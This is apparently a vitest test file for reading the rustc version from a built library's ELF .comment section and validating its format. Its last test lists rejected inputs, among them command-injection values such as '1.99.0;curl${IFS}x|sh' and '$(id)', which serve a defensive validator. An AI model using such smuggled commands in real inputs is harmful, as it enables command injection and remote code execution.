import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { appRoot } from '../app-paths';
import type { ReadAt } from '../files/elf';
import { isWellFormedRustc, rustcVersionsOf } from './elf-comment';

const builtBridge = () => readFileSync(join(appRoot(), 'native', 'target', 'release', 'libhf_host_bridge.so'));
const inBytes =
  (bytes: Buffer): ReadAt =>
  (offset, length) =>
    bytes.subarray(offset, offset + length);

describe("the rustc recorded in a library's .comment section", () => {
  it('is read from a library this build made', () => {
    const [version] = rustcVersionsOf(inBytes(builtBridge()));
    expect(version).toMatch(/^\d+\.\d+\.\d+(-\w+)? \([0-9a-f]+ \d{4}-\d\d-\d\d\)$/);
  });

  it('is read from its headers, section names and .comment alone, not the whole library', () => {
    const bridge = builtBridge();
    let read = 0;
    const versions = rustcVersionsOf((offset, length) => {
      const piece = bridge.subarray(offset, offset + length);
      read += piece.length;
      return piece;
    });
    expect(versions).toHaveLength(1);
    expect(read).toBeLessThan(bridge.length / 100);
  });

  it('is nothing for what is not an ELF library, or is cut short', () => {
    expect(rustcVersionsOf(inBytes(Buffer.from('#!/bin/sh\necho rustc version 1.0.0\n')))).toEqual([]);
    expect(rustcVersionsOf(inBytes(Buffer.alloc(10)))).toEqual([]);
    expect(rustcVersionsOf(inBytes(builtBridge().subarray(0, 200)))).toEqual([]);
  });
});

describe('a rustc version read from a library', () => {
  it('is used only when written as rustc writes it: numbers, a channel, a hash, a date', () => {
    for (const ok of ['1.95.0', '1.95.0 (59807616e 2026-04-14)', '1.97.0-nightly (e50aa6fba 2026-05-19)', '1.96.0-beta.3 (0123456789abcdef 2026-05-01)']) expect(isWellFormedRustc(ok), ok).toBe(true);
    for (const bad of ['1.99.0;curl${IFS}x|sh (a b)', '1.99.0 (abc 2026-05-19)', '1.99 (59807616e 2026-04-14)', '1.99.0 (59807616e 2026-04-14) more', '$(id)', '']) expect(isWellFormedRustc(bad), bad).toBe(false);
  });
});
